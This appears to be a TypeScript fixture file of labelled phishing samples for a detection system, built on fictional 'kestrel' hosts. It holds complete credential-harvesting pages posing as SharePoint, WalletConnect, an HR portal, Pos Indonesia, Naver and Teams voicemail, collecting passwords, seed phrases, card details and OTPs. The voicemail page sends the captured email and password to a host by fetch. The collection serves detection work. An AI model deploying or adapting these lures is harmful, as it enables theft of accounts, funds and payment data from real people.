import type { Entry } from '../entry.js';
import { builderBadge, builderHead, doc, htmlRoute, jsRoute, jsonRoute, pngRoute, redirectRoute } from '../parts/y-kit.js';

// Kits built with the host's site and form builders, and document lures in storage buckets.

const spHost = 'forms.kestrel.site';
const seedHost = 'walletconnect-sync-node.kestrel.site';
const hrHost = 'hr-benefits-portal-2025.kestrel.site';
const posHost = 'posindo-resi-paket.kestrelapps.dev';
const nvHost = 'ams3.kestrelstore.net';
const vmHost = 'nyc2.kestrelstore.net';

export const entries: Entry[] = [
  {
    id: 'y-builder-form-sharepoint',
    label: 'phishing',
    kind: 'form-builder-kit',
    url: `https://${spHost}/f/8c1e77a0/shared-file-notification`,
    routes: {
      [`${spHost}/f/8c1e77a0/shared-file-notification`]: htmlRoute(doc({
        title: 'SharePoint | Secure File Notification — Kestrel Forms',
        head: '<meta name="generator" content="Kestrel Forms">',
        css: `body{margin:0;background:#f3f2f1;font-family:"Segoe UI",Arial,sans-serif}
.form{max-width:560px;margin:30px auto;background:#fff;border-top:8px solid #038387;border-radius:6px;padding:28px}
.field{margin:16px 0}.field label{display:block;font-weight:600;font-size:14px;margin-bottom:6px}
.field input{width:100%;padding:10px;border:1px solid #8a8886;border-radius:2px;box-sizing:border-box}
.submit{background:#038387;color:#fff;border:0;padding:10px 26px;border-radius:2px;font-size:15px}
.pb{font-size:12px;color:#777;text-align:center;margin-top:18px}`,
        body: `<div class="form">
<div style="display:flex;align-items:center;gap:10px"><div style="width:40px;height:40px;background:#038387;color:#fff;font-weight:bold;border-radius:50%;text-align:center;line-height:40px">S</div><h2 style="margin:0">SharePoint Online</h2></div>
<p><b>Jennifer Walsh</b> has shared a file with you: <b>"Q4 Bonus Allocation - CONFIDENTIAL.xlsx"</b></p>
<p style="font-size:14px;color:#555">To protect sensitive information, this document requires verification of your organisational account.</p>
<form method="post" action="/f/8c1e77a0/submit">
<div class="field"><label>Work email *</label><input name="q1_email" type="email" required></div>
<div class="field"><label>Password *</label><input name="q2_password" type="password" required></div>
<div class="field"><label>Phone number (for verification)</label><input name="q3_phone"></div>
<button class="submit">Access Document</button>
</form>
<div class="pb">Never submit passwords through Kestrel Forms. · Powered by Kestrel Forms · Report abuse</div>
</div>`,
      })),
      [`${spHost}/f/8c1e77a0/submit`]: redirectRoute(303, 'https://www.office.com/'),
    },
  },
  {
    id: 'y-builder-site-wallet-seed',
    label: 'phishing',
    kind: 'builder-kit',
    url: `https://${seedHost}/`,
    routes: {
      [`${seedHost}/`]: htmlRoute(doc({
        title: 'WalletConnect | Resolve Wallet Sync Issues',
        head: builderHead('ks_c07e11b8'),
        css: `body{margin:0;background:#0b0d12;color:#e8ecf3;font-family:Inter,Arial,sans-serif}
.nav{display:flex;justify-content:space-between;padding:18px 30px;border-bottom:1px solid #1b2030}.nav b{color:#3b99fc}
.hero{text-align:center;padding:60px 20px}.hero h1{font-size:40px;margin:0}
.grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(180px,1fr));gap:14px;max-width:900px;margin:0 auto;padding:0 20px}
.grid div{background:#141925;border:1px solid #232a3b;border-radius:10px;padding:18px;cursor:pointer;text-align:center}
.modal{display:none;position:fixed;inset:0;background:rgba(0,0,0,.7);align-items:center;justify-content:center}
.mb{background:#141925;width:460px;border-radius:14px;padding:26px}
.tabs button{background:#232a3b;color:#fff;border:0;padding:8px 12px;margin-right:4px;border-radius:6px}
textarea{width:100%;height:110px;background:#0b0d12;color:#fff;border:1px solid #2f3850;border-radius:8px;padding:10px;box-sizing:border-box;margin-top:12px}
.go{width:100%;margin-top:12px;padding:12px;background:#3b99fc;border:0;border-radius:8px;color:#fff;font-weight:700}`,
        body: `<div class="nav"><b>&#8767; WalletConnect</b><span>Docs · Support · Status</span></div>
<div class="hero"><h1>Wallet Rectification Portal</h1><p>Fix sync errors, missing balances, failed transactions, stuck swaps and airdrop claims. Select your wallet below.</p></div>
<div class="grid">${['MetaMask', 'Trust Wallet', 'Coinbase Wallet', 'Phantom', 'Ledger Live', 'Exodus', 'Rainbow', 'Other wallet'].map((w) => `<div onclick="openM('${w}')">${w}</div>`).join('')}</div>
<div class="modal" id="m"><div class="mb">
<h3 id="wt">Import wallet</h3>
<div class="tabs"><button>Phrase</button><button>Keystore JSON</button><button>Private Key</button></div>
<form id="f" method="post" action="/_ks/forms/submit">
<textarea name="phrase" placeholder="Enter your 12 or 24 word recovery phrase, separated by spaces" required></textarea>
<input type="hidden" name="wallet" id="wn">
<button class="go">Validate &amp; Synchronize</button>
<p style="font-size:11px;color:#7b8499">Your phrase is encrypted end-to-end and never stored on our servers.</p>
</form></div></div>
${builderBadge}
<script>function openM(w){document.getElementById('wt').textContent='Import '+w;document.getElementById('wn').value=w;document.getElementById('m').style.display='flex';}
document.getElementById('f').onsubmit=function(e){var n=this.phrase.value.trim().split(/\\s+/).length;if([12,15,18,21,24].indexOf(n)<0){e.preventDefault();alert('Invalid phrase length');}};</script>`,
      })),
      [`${seedHost}/_ks/forms/submit`]: htmlRoute(doc({ title: 'Validating', body: '<p>Validation in progress. Please wait 30 minutes for synchronization to complete.</p>' })),
    },
  },
  {
    id: 'y-builder-form-payroll-hr',
    label: 'phishing',
    kind: 'builder-kit',
    url: `https://${hrHost}/salary-review`,
    routes: {
      [`${hrHost}/salary-review`]: htmlRoute(doc({
        title: 'Employee Portal – 2026 Compensation Review',
        head: builderHead('ks_77ab90e4'),
        css: `body{margin:0;font-family:Lato,Arial,sans-serif;background:#f4f6f8;color:#2c3e50}
header{background:#2c3e50;color:#fff;padding:18px 28px}
section{max-width:620px;margin:30px auto;background:#fff;padding:30px;border-radius:6px}
.ok{background:#e8f6ef;border:1px solid #bfe5cf;padding:12px;border-radius:4px;font-size:14px}
input{width:100%;padding:11px;border:1px solid #ccd;border-radius:4px;margin:6px 0;box-sizing:border-box}
button{background:#27ae60;color:#fff;border:0;padding:12px;width:100%;border-radius:4px;font-size:15px}`,
        body: `<header><b>Human Resources</b> · Employee Self-Service</header>
<section>
<h2>2026 Salary Adjustment &amp; Benefits Enrollment</h2>
<div class="ok">Your compensation review letter is ready. Adjustments take effect with the January payroll. Please acknowledge before <b>December 5</b>.</div>
<p>Sign in with your company Microsoft 365 account to view your letter and confirm your direct deposit details.</p>
<form id="f">
<input name="email" type="email" placeholder="Work email" required>
<input name="password" type="password" placeholder="Password" required>
<button>View my letter</button></form>
<p style="font-size:12px;color:#888">Questions? Contact payroll@ your company domain. This portal is provided by your HR department.</p>
</section>
${builderBadge}
<script src="/_ks/site.js"></script>`,
      })),
      [`${hrHost}/_ks/site.js`]: jsRoute(`document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var b=new FormData(this);b.append('site','ks_77ab90e4');fetch('/_ks/forms/submit',{method:'POST',body:b}).finally(function(){location.href='https://login.microsoftonline.com/'});});`),
      [`${hrHost}/_ks/forms/submit`]: jsonRoute({ ok: true }),
    },
  },
  {
    id: 'y-builder-site-pos-id',
    label: 'phishing',
    kind: 'free-app-kit',
    url: `https://${posHost}/lacak?resi=P2511270088421`,
    routes: {
      [`${posHost}/lacak`]: htmlRoute(doc({
        lang: 'id',
        title: 'Pos Indonesia - Lacak Kiriman',
        css: `body{margin:0;font-family:"Open Sans",Arial,sans-serif;background:#f5f5f5}
.hd{background:#f37021;color:#fff;padding:14px 20px;font-weight:bold;font-size:20px}
.c{max-width:480px;margin:22px auto;background:#fff;padding:24px;border-radius:8px}
.st{border-left:3px solid #f37021;padding-left:12px;margin:10px 0;font-size:14px}
input{width:100%;padding:11px;border:1px solid #ccc;border-radius:6px;margin:6px 0;box-sizing:border-box}
button{width:100%;padding:13px;background:#f37021;color:#fff;border:0;border-radius:6px;font-weight:bold}`,
        body: `<div class="hd">PosIND</div>
<div class="c">
<h3>Status Kiriman: <span style="color:#c0392b">Tertahan</span></h3>
<div class="st">No. Resi: <b id="r"></b><br>Paket Anda tertahan di Kantor Pos Jakarta Pusat karena alamat tidak lengkap.</div>
<p style="font-size:14px">Lengkapi alamat dan bayar biaya pengiriman ulang <b>Rp 12.500</b> agar paket dikirim dalam 1x24 jam.</p>
<form method="post" action="/bayar">
<input name="nama" placeholder="Nama lengkap" required><input name="hp" placeholder="Nomor HP" required>
<input name="alamat" placeholder="Alamat lengkap" required>
<input name="kartu" placeholder="Nomor kartu debit/kredit" required>
<div style="display:flex;gap:8px"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"></div>
<button>Bayar Rp 12.500</button></form>
<p style="font-size:11px;color:#999;text-align:center">© PT Pos Indonesia (Persero)</p>
</div>
<script>document.getElementById('r').textContent=new URLSearchParams(location.search).get('resi')||'-';</script>`,
      })),
      [`${posHost}/bayar`]: htmlRoute(doc({ lang: 'id', title: 'Verifikasi OTP', body: '<p>Masukkan kode OTP yang dikirim bank Anda:</p><form method="post" action="/bayar"><input name="otp"><button>Verifikasi</button></form>' })),
    },
  },
  {
    id: 'y-bucket-naver-ko',
    label: 'phishing',
    kind: 'bucket-doc-lure',
    url: `https://${nvHost}/mybox-share-kr/index.html?doc=%EA%B2%AC%EC%A0%81%EC%84%9C.hwp`,
    routes: {
      [`${nvHost}/mybox-share-kr/index.html`]: {
        status: 200,
        headers: { 'content-type': 'text/html; charset=utf-8', server: 'KestrelStore', 'x-amz-request-id': 'tx0000007ac2910ee81' },
        body: doc({
          lang: 'ko',
          title: 'NAVER MYBOX - 공유 문서',
          css: `body{margin:0;font-family:"Malgun Gothic","Apple SD Gothic Neo",sans-serif;background:#f5f6f7}
.l{text-align:center;color:#03c75a;font-size:34px;font-weight:900;margin:50px 0 20px}
.b{width:400px;margin:0 auto;background:#fff;border:1px solid #dadada;border-radius:6px;padding:26px}
.d{background:#f0faf4;padding:12px;border-radius:4px;font-size:14px;margin-bottom:14px}
input{width:100%;padding:13px;border:1px solid #dadada;margin:4px 0;box-sizing:border-box;font-size:15px}
button{width:100%;background:#03c75a;color:#fff;border:0;padding:14px;font-size:17px;border-radius:6px;margin-top:10px}`,
          body: `<div class="l">NAVER</div>
<div class="b">
<div class="d">&#128196; <b id="dn">견적서.hwp</b> 파일이 공유되었습니다.<br><small>문서를 열람하려면 네이버 계정으로 로그인하세요.</small></div>
<form method="post" action="https://${nvHost}/mybox-share-kr/s.php">
<input name="id" placeholder="아이디" required><input name="pw" type="password" placeholder="비밀번호" required>
<label style="font-size:13px"><input type="checkbox" style="width:auto"> 로그인 상태 유지</label>
<button>로그인</button></form>
</div>
<p style="text-align:center;font-size:12px;color:#888;margin-top:20px">Copyright © NAVER Corp. All Rights Reserved.</p>
<script>var d=new URLSearchParams(location.search).get('doc');if(d)document.getElementById('dn').textContent=d;</script>`,
        }),
      },
      [`${nvHost}/mybox-share-kr/s.php`]: redirectRoute(302, 'https://mybox.naver.com/'),
    },
  },
  {
    id: 'y-bucket-voicemail',
    label: 'phishing',
    kind: 'bucket-doc-lure',
    url: `https://${vmHost}/vm-notify-0193/VM_Message_00-47s.html#ZC5wYXJrZXJAY2FzY2FkZS1jcGEuY29t`,
    routes: {
      [`${vmHost}/vm-notify-0193/VM_Message_00-47s.html`]: {
        status: 200,
        headers: { 'content-type': 'text/html', server: 'KestrelStore' },
        body: doc({
          title: 'New Voicemail',
          css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#eef1f5}
.p{max-width:420px;margin:60px auto;background:#fff;border-radius:10px;padding:28px;box-shadow:0 3px 14px rgba(0,0,0,.1)}
.wave{height:40px;background:repeating-linear-gradient(90deg,#6264a7 0 3px,transparent 3px 6px);opacity:.5;border-radius:4px;margin:12px 0}
.play{width:48px;height:48px;border-radius:50%;background:#6264a7;color:#fff;border:0;font-size:20px}
input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}
.go{background:#6264a7;color:#fff;border:0;padding:11px;width:100%;border-radius:4px}`,
          body: `<div class="p">
<h3>&#128222; You have a new voice message</h3>
<p style="font-size:14px;color:#555">From: +1 (214) 555-0187 · Duration 00:47 · Received today 9:14 AM</p>
<div style="display:flex;align-items:center;gap:12px"><button class="play" id="pl">&#9654;</button><div class="wave" style="flex:1"></div></div>
<div id="auth" style="display:none"><p style="font-size:13px">Sign in with your Microsoft 365 account to listen to this message.</p>
<form id="f"><input id="u" type="email" readonly><input id="pw" type="password" placeholder="Password" required><button class="go">Sign in</button></form></div>
<p style="font-size:11px;color:#999;margin-top:20px">Microsoft Teams Voicemail · Cloud Voice</p>
</div>
<script>
var em=atob(location.hash.slice(1)||'');document.getElementById('u').value=em;
document.getElementById('pl').onclick=function(){document.getElementById('auth').style.display='block';};
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('https://${vmHost}/vm-notify-0193/log',{method:'POST',mode:'no-cors',body:em+'|'+pw.value});setTimeout(function(){location.href='https://teams.microsoft.com/'},800);};
</script>`,
        }),
      },
      [`${vmHost}/vm-notify-0193/log`]: jsonRoute({}),
    },
  },
];
